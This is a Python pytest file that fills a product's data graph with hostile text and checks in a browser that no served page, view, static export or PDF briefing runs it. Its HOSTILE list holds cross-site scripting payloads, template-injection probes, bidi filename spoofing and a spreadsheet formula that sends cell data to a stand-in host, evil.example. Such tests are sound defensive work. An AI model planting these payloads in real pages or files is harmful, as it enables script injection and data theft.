"""Data that means harm: every text that claims, sources and the register hold is hostile, and pages stay pages.

The graph is a part of the real one, so that every page, view and chart has something to show; only its words are
exchanged. It passes the product's own gates, as any contributor's files would.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest
import yaml
from playwright.sync_api import Browser, Page

from benchmarks.servers import free_port, serving
from exports.brief import brief
from exports.brief_forms import as_html
from exports.views import SURROUNDINGS, VIEWS
from graph import Graph, open_graph
from graph.build import CLAIMS, REGISTER_FILES, Inputs
from graph.errors import ClaimsRefused
from graph.publishing import publish
from graph.questions import QUESTIONS
from graph.store import Versions

pytestmark = pytest.mark.slow

ROOT = Path(__file__).parents[1]
RUN = "window.ran=(window.ran||0)+1"
HOSTILE = (
    f"<script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"' onmouseover='{RUN}' x='",
    f"javascript:{RUN}",
    f"</script></style></title></textarea><svg onload={RUN}>",
    "{{7*7}}${7*7}<%= 7*7 %>{% raw %}",
    "\u202egnp.exe\u202c\u2066 left \u2069",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "👩‍👩‍👧‍👦🇺🇳" * 12,
    "W" * 3500,
    "]]><!-- --> `x` [a](javascript:alert(1)) | **b**",
    "\u0301" * 60 + "ℤ͑ͫ̓ͪ̂",
)
ADDRESS = f"https://example.org/\"><script>{RUN}</script>/'onmouseover='{RUN}/"
WORDS = frozenset(
    (
        *("note", "words", "product", "location", "chipType", "condition", "terminationTerms", "round", "credit"),
        *("locator", "exchange", "publisher", "title", "alias"),
        *("unnamedCustomer", "unnamedProvider", "unnamedInvestor", "unnamedCounterparties"),
    )
)
SHORT = frozenset({"exchange", "locator"})
"""Fields that hold a few characters."""

MATTER = ("anthropic", "coreweave", "akamai")
"""Claim files that name one of these make the graph."""

KINDS = ("ComputeContract", "Investment", "Cluster", "Model", "Accelerator", "Figure", "Event", "Right", "Holding")
OF_A_FIRM = ("", "/brief", "/claims", "/neighbors")
PAGES = (
    *("/", "/about", "/compare?one=anthropic&two=openai&three=google", "/queries", "/ontology", "/search?q=onerror"),
    *("/entities", "/agreements", "/investments", "/clusters", "/holdings", "/rights", "/models", "/figures"),
    *("/events", "/claims", "/sources", "/conflicts", "/flags", "/unknowns", "/unknowns/things", "/changes", "/views"),
    *("/paths?from=nvidia&to=anthropic", "/analysis", "/analysis/scenario?without=amazon"),
    *("/sparql?query=SELECT%20%3Fs%20%3Fn%20%7B%3Fs%20rdfs%3Alabel%20%3Fn%7D%20LIMIT%2050",),
)


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data directory with a graph of which every word is hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    words = cycle(HOSTILE)
    for part in ("claims", "register"):
        (folder / part).mkdir()
    for path in sorted(REGISTER_FILES.glob("*.yaml")):
        shutil.copy(path, folder / "register" / path.name)
    entries = yaml.safe_load((REGISTER_FILES / "entities.yaml").read_text("utf-8"))
    for entry in entries:
        entry["name"] = f"{next(words)} {entry['id']}"
    _write(folder / "register" / "entities.yaml", entries)
    for path in sorted(CLAIMS.glob("*.yaml")):
        text = path.read_text("utf-8")
        if any(f"[{name}" in text or f" {name}\n" in text for name in MATTER):
            _write(folder / "claims" / path.name, _spoilt(yaml.load(text, yaml.BaseLoader), words))
    inputs = Inputs(claims=(folder / "claims",), register=folder / "register")
    publish(inputs, Versions(folder / "data"))
    return folder / "data"


def _write(path: Path, content: object) -> None:
    path.write_text(yaml.safe_dump(content, allow_unicode=True, sort_keys=False, width=10_000), "utf-8")


def _spoilt(value: Any, words: Iterator[str], name: str = "") -> Any:
    """The same with every free text exchanged, and every address made to break out of an attribute."""
    if isinstance(value, dict):
        return {key: _spoilt(inner, words, key) for key, inner in value.items()}
    if isinstance(value, list):
        return [_spoilt(inner, words, name) for inner in value]
    if name in {"url", "archived", "cites"}:
        return ADDRESS + re.sub(r"\W", "-", str(value))
    if name in WORDS:
        text = next(words)
        return text[:60] if name in SHORT else text
    return {"true": True, "false": False}.get(value, value)


@pytest.fixture(scope="module")
def graph_of_harm(planted: Path) -> Graph:
    """The hostile graph, open."""
    return open_graph(planted)


@pytest.fixture(scope="module")
def base(planted: Path) -> Iterator[str]:
    """Where a server process serves the hostile graph."""
    port = free_port()
    environ = {"INTERLOCK_DATA": str(planted), "INTERLOCK_PORT": str(port), "INTERLOCK_LOG_REQUESTS": "false"}
    with serving([sys.executable, "-m", "api.server"], port, environ):
        yield f"http://127.0.0.1:{port}"


OPENED = """
document.querySelectorAll('details').forEach(d => d.open = true),
new Promise(done => requestAnimationFrame(() => setTimeout(done)))
"""
"""Opens what is folded and waits until that is drawn; no page asks for anything more once it has loaded."""


def visited(browser: Browser, addresses: list[str]) -> list[str]:
    """What is wrong with pages at phone width: whatever ran, complained, left the site or did not fit."""
    context = browser.new_context(viewport={"width": 360, "height": 760})
    page: Page = context.new_page()
    page.set_default_timeout(60_000)
    faults: list[str] = []
    home = addresses[0].split("/entities")[0]
    page.on("console", lambda m: faults.append(f"{page.url} console: {m.text}") if m.type == "error" else None)
    page.on("pageerror", lambda error: faults.append(f"{page.url} error: {error}"))
    page.on("dialog", lambda dialog: (faults.append(f"{page.url} dialog"), dialog.dismiss()))
    page.on("request", lambda r: None if r.url.startswith((home[:20], "data:", "file:")) else faults.append(r.url))
    for address in addresses:
        answer = page.goto(address)
        page.wait_for_function(
            "document.documentElement.dataset.ready !== undefined || !document.querySelector('#stage')"
        )
        if answer is not None and answer.status not in {200, 0}:
            faults.append(f"{address} answered {answer.status}")
        page.evaluate(OPENED)
        if page.evaluate("window.ran || document.querySelectorAll('[onerror],[onload],[onmouseover]').length"):
            faults.append(f"{address} let data become markup")
        if page.evaluate("[...document.querySelectorAll('a[href]')].filter(a => a.protocol == 'javascript:').length"):
            faults.append(f"{address} has a javascript: link")
        over = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
        if over > 0:
            faults.append(f"{address} is {over} px too wide")
    context.close()
    return faults


def of_every_kind(graph: Graph) -> list[str]:
    """The page of a firm in every form, of something of each kind, of a claim, a source, a conflict and flags."""
    from exports.profile import all_flags
    from graph.current import conflict_slug

    snapshot = graph.snapshot()
    told = [slug for slug in snapshot.subjects if slug in snapshot.types]
    things = [next((s for s in told if kind in snapshot.types[s]), "") for kind in KINDS]
    one_flag_of_each = {flag.kind: flag.id for flag in all_flags(snapshot)}
    claims = sorted(snapshot.eligible)[:: max(1, len(snapshot.eligible) // 8)]
    return [
        *(f"/entities/{slug}{form}" for slug in MATTER for form in OF_A_FIRM),
        *(f"/entities/{slug}" for slug in things if slug),
        *(f"/claims/{claim}" for claim in claims),
        *(f"/sources/{snapshot.evidence.claims[claim].source.id}" for claim in claims),
        *(f"/conflicts/{conflict_slug(c)}" for c in snapshot.conflicts[:3]),
        *(f"/flags/{one}" for one in one_flag_of_each.values()),
    ]


def test_no_page_of_any_kind_runs_what_data_says(browser: Browser, base: str, graph_of_harm: Graph) -> None:
    addresses = [*PAGES, *of_every_kind(graph_of_harm)]
    assert len(addresses) > 60
    assert visited(browser, [base + address for address in addresses]) == []


def test_no_answer_to_a_question_runs_what_data_says(browser: Browser, base: str) -> None:
    asked = [q.name for q in QUESTIONS.values() if all(p.default is not None for p in q.parameters)]
    assert asked
    assert visited(browser, [f"{base}/queries/{name}" for name in asked]) == []


def test_no_view_runs_what_data_says(browser: Browser, base: str) -> None:
    views = [*VIEWS, *(f"{SURROUNDINGS}/{slug}" for slug in MATTER)]
    assert visited(browser, [f"{base}/views/{name}" for name in views]) == []


def test_hostile_text_is_shown_as_it_is(browser: Browser, base: str) -> None:
    page = browser.new_page()
    page.goto(f"{base}/entities")
    assert page.get_by_text("{{7*7}}${7*7}<%= 7*7 %>{% raw %}").count() > 0
    page.close()


def test_a_hostile_site_stays_text_in_a_folder(browser: Browser, planted: Path, tmp_path: Path) -> None:
    only = ["/", "/about", "/entities/anthropic", "/flags", "/conflicts", "/compare", "/unknowns"]
    chosen = [word for address in only for word in ("--only", address)]
    command = [sys.executable, "-c", "from api.cli import main; main()", "export", "site", "--out", str(tmp_path)]
    done = subprocess.run(
        [*command, "--data", str(planted), "--around", "8", *chosen], capture_output=True, text=True, cwd=ROOT
    )
    assert done.returncode == 0, done.stderr
    files = sorted(tmp_path.glob("**/*.html"))
    views = [tmp_path / f"views/{name}.html" for name in ("index", *VIEWS, f"{SURROUNDINGS}-{MATTER[0]}")]
    pages = [*sorted(tmp_path.glob("*.html")), *views, *files[:: len(files) // 12]]
    assert visited(browser, [path.as_uri() for path in dict.fromkeys(pages)]) == []


def test_a_briefing_of_hostile_words_still_prints_on_few_pages(browser: Browser, graph_of_harm: Graph) -> None:
    page = browser.new_page()
    page.set_content(as_html(brief(graph_of_harm.snapshot(), "anthropic", graph_of_harm.version)))
    assert page.evaluate("window.ran") is None
    assert len(re.findall(rb"/Type\s*/Page[^s]", page.pdf(prefer_css_page_size=True))) < 60
    page.close()


@pytest.mark.parametrize("address", ["javascript:alert(1)", "data:text/html,x", "https://a b", "ftp://example.org/"])
def test_no_claim_file_gives_an_address_of_another_scheme(tmp_path: Path, address: str) -> None:
    (tmp_path / "claims").mkdir()
    source = {"id": "x", "url": address, "publisher": "X", "sourceKind": "press"}
    content = {"source": source | {"published": "2026-01-01", "recorded": "2026-10-11"}, "claims": []}
    _write(tmp_path / "claims" / "x.yaml", content)
    with pytest.raises(ClaimsRefused):
        publish(Inputs(claims=(tmp_path / "claims",)), Versions(tmp_path / "data"))
